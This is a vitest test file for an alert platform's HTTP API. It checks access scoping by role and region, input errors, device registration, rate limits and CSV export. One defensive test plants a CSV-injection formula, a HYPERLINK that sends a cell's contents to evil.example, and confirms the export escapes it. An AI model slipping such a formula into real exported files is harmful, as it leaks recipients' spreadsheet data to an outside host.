import mqtt from 'mqtt';
import { readFile } from 'node:fs/promises';
import { connect } from 'node:net';
import { Writable } from 'node:stream';
import pino from 'pino';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient, connectDevice, followStream, startTestApp } from '../support/app.ts';
import { CAST, CHEM, MALL } from '../support/registry.ts';
import { waitFor } from '../support/wait.ts';

/** The HTTP API: tokens, roles and scopes, input errors, registration, export, transports. */
describe('HTTP API', () => {
  let app: Awaited<ReturnType<typeof startTestApp>>;
  let chemAlert: string;
  let mallAlert: string;

  beforeAll(async () => {
    app = await startTestApp();
    const gas = await connectDevice(app, CHEM, 'gas-1', 'secret-gas-1');
    const smoke = await connectDevice(app, MALL, 'smoke-1', 'secret-smoke-1');
    await gas.telemetry({ seq: 1, values: { gas_lel: 45 } });
    await smoke.telemetry({ seq: 1, values: { smoke_alarm: true } });
    const op = apiClient(app, 'token-operator');
    const items = await waitFor(async () => {
      const r = (await op.get('/api/alerts')).json.items;
      return r.length === 2 ? r : null;
    }, 5000, 'two alerts');
    chemAlert = items.find((a: any) => a.enterpriseId === CHEM).id;
    mallAlert = items.find((a: any) => a.enterpriseId === MALL).id;
    await gas.end();
    await smoke.end();
  });
  afterAll(async () => app?.stop());

  it('answers health without a token and everything else only with one', async () => {
    const anon = apiClient(app);
    const health = await anon.get('/api/health');
    expect(health.status).toBe(200);
    expect(health.json).toMatchObject({ status: 'ok', store: { kind: 'embedded', ok: true } });
    expect(typeof health.json.uptimeS).toBe('number');
    for (const path of ['/api/alerts', `/api/alerts/${chemAlert}`, '/api/enterprises', '/api/telemetry?device=gas-1', '/api/alerts/export.csv']) {
      expect((await anon.get(path)).status, path).toBe(401);
      expect((await apiClient(app, 'not-a-token').get(path)).status, path).toBe(401);
    }
    expect((await anon.post(`/api/alerts/${chemAlert}/ack`, {})).json.error).toBe('UNAUTHORIZED');
  });

  it.each([
    ['/api/alerts?limit=abc', 'limit'],
    ['/api/alerts?limit=0', 'limit'],
    ['/api/alerts?severity=bogus', 'severity'],
    ['/api/alerts?state=weird', 'state'],
    ['/api/alerts?from=yesterday', 'from'],
    ['/api/alerts?region=abc', 'region'],
    ['/api/alerts?cursor=zzz', 'cursor'],
    ['/api/alerts?colour=red', 'query'],
    ['/api/telemetry?device=gas-1&every=5x', 'every'],
    [`/api/telemetry?device=gas-1&every=${'9'.repeat(400)}d`, 'every'],
    ['/api/telemetry?device=gas-1&every=99999999999999d', 'every'],
    ['/api/telemetry?metric=gas_lel', 'enterprise'],
  ])('answers %s with 400 naming %s', async (path, field) => {
    const r = await apiClient(app, 'token-operator').get(path);
    expect(r.status).toBe(400);
    expect(r.json.error).toBe('BAD_REQUEST');
    expect(r.json.field).toBe(field);
  });

  it('gives 400 for a malformed body and 413 for a huge one', async () => {
    const api = apiClient(app, 'token-operator');
    expect((await api.post(`/api/alerts/${chemAlert}/ack`, '{"note":')).status).toBe(400);
    expect((await api.post(`/api/alerts/${chemAlert}/ack`, { note: 5 })).json.field).toBe('note');
    expect((await api.post(`/api/alerts/${chemAlert}/ack`, { note: 'x'.repeat(200_000) })).status).toBe(413);
    // a control character in the path names nothing (and PostgreSQL refuses to look a NUL up)
    for (const path of ['/api/alerts/%00/ack', '/api/alerts/a%0Ab', '/api/hazards/%7F']) {
      const r = path.endsWith('/ack') ? await api.post(path, {}) : await api.get(path);
      expect([r.status, r.json.error], path).toEqual([400, 'BAD_REQUEST']);
    }
  });

  it('shows a regulator only its regions and refuses it any handling', async () => {
    const a = apiClient(app, 'token-regulator-a');
    expect((await a.get('/api/alerts')).json.items.map((x: any) => x.id)).toEqual([chemAlert]);
    expect((await a.get(`/api/alerts?enterprise=${MALL}`)).status).toBe(403);
    expect((await a.get('/api/alerts?region=320582')).status).toBe(403);
    expect((await a.get('/api/alerts?region=321283103')).json.items).toHaveLength(1);
    expect((await a.get(`/api/alerts/${mallAlert}`)).status).toBe(403);
    expect((await a.post(`/api/alerts/${chemAlert}/ack`, {})).status).toBe(403);
    expect((await a.get('/api/enterprises')).json.items.map((e: any) => e.id).sort()).toEqual([CAST, CHEM].sort());
    expect((await a.get(`/api/enterprises/${MALL}`)).status).toBe(403);
    // another region's device: answered as unknown, its owner not given away
    expect((await a.get('/api/telemetry?device=smoke-1')).status).toBe(404);
    const b = apiClient(app, 'token-regulator-b');
    expect((await b.get('/api/alerts')).json.items.map((x: any) => x.id)).toEqual([mallAlert]);
  });

  it('shows an enterprise only itself, and lets it handle only its own alerts', async () => {
    const chem = apiClient(app, 'token-chem');
    expect((await chem.get('/api/alerts')).json.items.map((x: any) => x.id)).toEqual([chemAlert]);
    expect((await chem.get(`/api/alerts/${mallAlert}`)).status).toBe(403);
    expect((await chem.post(`/api/alerts/${mallAlert}/ack`, {})).status).toBe(403);
    expect((await chem.get('/api/enterprises')).json.items.map((e: any) => e.id)).toEqual([CHEM]);
    expect((await chem.get(`/api/telemetry?enterprise=${CAST}`)).status).toBe(403);
    expect((await chem.get('/api/telemetry?device=no-such')).status).toBe(404);
    expect((await chem.get('/api/alerts/00000000-0000-0000-0000-000000000000')).status).toBe(404);
    const ack = await chem.post(`/api/alerts/${chemAlert}/ack`, {});
    expect(ack.status).toBe(200);
    expect((await chem.post(`/api/alerts/${chemAlert}/ack`, {})).status).toBe(409);
  });

  it('streams only the alerts the follower may see', async () => {
    const mall = await followStream(app, 'token-mall');
    const op = await followStream(app, 'token-operator');
    const gas = await connectDevice(app, CHEM, 'gas-2', 'secret-gas-2');
    await gas.telemetry({ seq: 1, values: { gas_lel: 50 } });
    await waitFor(() => op.events.find((e) => e.data.deviceId === 'gas-2'), 5000, 'operator sees gas-2');
    // then a change the mall may see (its smoke alarm goes and comes back, whatever its alert's
    // state now): once that arrives, anything sent before it has too
    const smoke = await connectDevice(app, MALL, 'smoke-1', 'secret-smoke-1');
    await smoke.telemetry({ seq: 2, values: { smoke_alarm: false } });
    await smoke.telemetry({ seq: 3, values: { smoke_alarm: true } });
    await waitFor(() => mall.events.find((e) => e.data.deviceId === 'smoke-1'), 5000, 'the mall sees its own alarm');
    expect(mall.events.filter((e) => e.data.enterpriseId !== MALL)).toEqual([]);
    mall.close();
    op.close();
    await gas.end();
    await smoke.end();
  });

  it('pages the alert list with a cursor, newest first', async () => {
    const api = apiClient(app, 'token-operator');
    // up to now: an alert raised meanwhile (a device of an earlier test going offline) is not in either
    const to = new Date().toISOString();
    const all = (await api.get(`/api/alerts?to=${to}`)).json.items.map((a: any) => a.id);
    const seen: string[] = [];
    let cursor = '';
    for (;;) {
      const r = (await api.get(`/api/alerts?to=${to}&limit=1${cursor ? `&cursor=${cursor}` : ''}`)).json;
      seen.push(...r.items.map((a: any) => a.id));
      if (!r.nextCursor) break;
      cursor = r.nextCursor;
    }
    expect(seen).toEqual(all);
    expect(all.length).toBeGreaterThanOrEqual(3);
  });

  it('exports the alert list as CSV that Excel opens (UTF-8 with BOM), matching the API', async () => {
    const a = apiClient(app, 'token-regulator-a');
    const r = await a.get('/api/alerts/export.csv');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/text\/csv; charset=utf-8/);
    expect([...r.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = r.text.replace(/^\uFEFF/, '').trim().split('\n');
    expect(lines[0]).toMatch(/^id,enterprise_id,enterprise,region/);
    const ids = lines.slice(1).map((l) => l.split(',')[0]);
    expect(ids).toEqual((await a.get('/api/alerts')).json.items.map((x: any) => x.id));
    expect(r.text).toContain('测试化工有限公司');
  });

  it('holds at most 50 live streams open for one token: the next is answered 429, and a closed one frees its place', async () => {
    const streams = [];
    for (let i = 0; i < 50; i++) streams.push(await followStream(app, 'token-mall'));
    const url = `http://127.0.0.1:${app.ports.http}/api/alerts/stream?token=token-mall`;
    const refused = await fetch(url);
    expect(refused.status).toBe(429);
    expect(await refused.json()).toMatchObject({ error: 'RATE_LIMITED', message: expect.stringContaining('50') });
    // another token is served meanwhile
    const other = await followStream(app, 'token-chem');
    streams.pop()!.close();
    const again = await waitFor(async () => {
      const ctrl = new AbortController();
      const r = await fetch(url, { signal: ctrl.signal });
      if (r.status === 200) return ctrl;
      await r.body?.cancel();
      return null;
    }, 5000, 'a place freed');
    again.abort();
    for (const s of [...streams, other]) s.close();
  });

  it('counts no stream for requests pipelined behind a stream on its connection: the token is not locked out once it closes', async () => {
    // its own service, whose log says when each request came (all 51 must have been handled)
    const lines: string[] = [];
    const own = await startTestApp({ logger: pino({ level: 'debug' }, new Writable({ write: (chunk, _enc, cb) => (lines.push(chunk.toString()), cb()) })) });
    try {
      const sock = connect(own.ports.http, '127.0.0.1');
      await new Promise((r) => sock.once('connect', r));
      // another token's stream first, then 50 of token-mall's queued behind it
      const stream = (token: string) => `GET /api/alerts/stream?token=${token} HTTP/1.1\r\nHost: x\r\n\r\n`;
      sock.write(stream('token-chem') + stream('token-mall').repeat(50));
      await waitFor(() => lines.filter((l) => l.includes('incoming request') && l.includes('/api/alerts/stream')).length === 51, 10_000, 'all 51 requests handled');
      sock.destroy();
      // every place of the token free again: a stream of its own is followed
      const ctrl = new AbortController();
      await waitFor(async () => {
        const r = await fetch(`http://127.0.0.1:${own.ports.http}/api/alerts/stream?token=token-mall`, { signal: ctrl.signal });
        if (r.status !== 200) await r.body?.cancel();
        return r.status === 200;
      }, 5000, 'a stream for the token');
      ctrl.abort();
    } finally {
      await own.stop();
    }
  });

  it("plants no formula in a regulator's CSV: a cell an enterprise wrote that starts with = + - @ goes out as text", async () => {
    const chem = apiClient(app, 'token-chem');
    const formula = '=HYPERLINK("http://evil.example/?d="&A2,"详情")';
    const created = await chem.post(`/api/enterprises/${CHEM}/devices`, { id: 'gas-csv', name: '探测器', templates: ['hazchem'], points: [{ metric: 'gas_lel', name: formula }] });
    expect(created.status).toBe(201);
    const dev = await connectDevice(app, CHEM, 'gas-csv', created.json.secret);
    await dev.telemetry({ values: { gas_lel: 45 } });
    await app.settled();
    await dev.end();
    const csv = (await apiClient(app, 'token-regulator-a').get('/api/alerts/export.csv')).text;
    const row = csv.split('\n').find((l) => l.includes('gas-csv'))!;
    expect(row).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(row).not.toMatch(/,"?=/);
  });

  it('lets an enterprise register a device, shows its secret once, and lets it connect', async () => {
    const chem = apiClient(app, 'token-chem');
    const body = { id: 'gas-9', name: '新增可燃气体探测器', templates: ['hazchem'], points: [{ metric: 'gas_lel' }] };
    const created = await chem.post(`/api/enterprises/${CHEM}/devices`, body);
    expect(created.status).toBe(201);
    expect(created.json.mqtt).toMatchObject({ username: 'gas-9', telemetryTopic: `v1/${CHEM}/gas-9/telemetry` });
    const secret = created.json.secret;
    expect(secret.length).toBeGreaterThanOrEqual(20);

    expect((await chem.post(`/api/enterprises/${CHEM}/devices`, body)).status).toBe(409);
    expect((await apiClient(app, 'token-mall').post(`/api/enterprises/${CHEM}/devices`, { ...body, id: 'x-1' })).status).toBe(403);
    expect((await apiClient(app, 'token-regulator-a').post(`/api/enterprises/${CHEM}/devices`, { ...body, id: 'x-2' })).status).toBe(403);
    const bad = await chem.post(`/api/enterprises/${CHEM}/devices`, { ...body, id: 'x-3', points: [{ metric: 'dust_conc' }] });
    expect(bad.status).toBe(400);
    expect(bad.json.message).toMatch(/points\[0\]\.metric: unknown metric "dust_conc"/);

    const file = await readFile(join(app.dataDir, 'registered-devices.json'), 'utf8');
    expect(file).toContain('scrypt$');
    expect(file).not.toContain(secret);

    const dev = await connectDevice(app, CHEM, 'gas-9', secret);
    await dev.telemetry({ seq: 1, values: { gas_lel: 41 } });
    const alert = await waitFor(async () => (await chem.get('/api/alerts?state=active')).json.items.find((a: any) => a.deviceId === 'gas-9'), 5000, 'alert from the new device');
    expect(alert.severity).toBe('critical');
    await dev.end();
    expect((await chem.get(`/api/enterprises/${CHEM}`)).json.devices.map((d: any) => d.id)).toContain('gas-9');

    // still registered after a restart, with the same secret
    const dataDir = app.dataDir;
    await app.stop();
    app = await startTestApp({ dataDir });
    const again = await connectDevice(app, CHEM, 'gas-9', secret);
    await again.end();
  });

  it('takes at most 30 registrations a minute from one token (each hands the whole registry to the rules again); another token is still served', async () => {
    const own = await startTestApp();
    try {
      const mall = apiClient(own, 'token-mall');
      const answers: number[] = [];
      // refused ones count too: checking them is work of the same kind
      for (let i = 0; i < 30; i++) answers.push((await mall.post(`/api/enterprises/${MALL}/devices`, { id: `m-${i}`, points: [{ metric: i % 2 ? 'smoke_alarm' : 'no_such_metric' }] })).status);
      expect(answers.filter((s) => s === 429)).toEqual([]);
      const over = await mall.post(`/api/enterprises/${MALL}/devices`, { id: 'm-over', points: [{ metric: 'smoke_alarm' }] });
      expect(over.status).toBe(429);
      expect(over.json).toMatchObject({ error: 'RATE_LIMITED', message: expect.stringContaining('30') });
      expect((await apiClient(own, 'token-chem').post(`/api/enterprises/${CHEM}/devices`, { id: 'c-ok', points: [{ metric: 'gas_lel' }] })).status).toBe(201);
      // other calls of the same token are not limited by it
      expect((await mall.get(`/api/enterprises/${MALL}`)).status).toBe(200);
    } finally {
      await own.stop();
    }
  });

  it('takes MQTT over WebSocket on the same broker', async () => {
    const ws = await mqtt.connectAsync(`ws://127.0.0.1:${app.ports.ws}`, { username: 'caster-1', password: 'secret-caster-1', reconnectPeriod: 0 });
    await ws.publishAsync(`v1/${CAST}/caster-1/telemetry`, JSON.stringify({ seq: 1, values: { melt_level: 600 } }), { qos: 1 });
    const r = await apiClient(app, 'token-operator').get('/api/telemetry?device=caster-1');
    expect(r.json.points.map((p: any) => p.value)).toEqual([600]);
    await ws.endAsync();
  });

  it('serves Prometheus metrics', async () => {
    const m = await apiClient(app).get('/metrics');
    expect(m.status).toBe(200);
    for (const name of ['gateway_messages_in_total', 'gateway_readings_accepted_total', 'rules_evaluations_total', 'alerts_transitions_total', 'store_write_lag_seconds', 'alerts_open', 'notifications_outbox', 'gateway_connections_refused_total'])
      expect(m.text).toContain(name);
    // the pipeline's depth, and the heap of each thread (here the pipeline runs on this one)
    expect(m.text).toMatch(/^pipeline_messages\{where="waiting"\} \d+$/m);
    expect(m.text).toMatch(/^pipeline_messages\{where="in_flight"\} \d+$/m);
    expect(m.text).toMatch(/^process_thread_heap_bytes\{thread="main",kind="used"\} \d+$/m);
  });
});
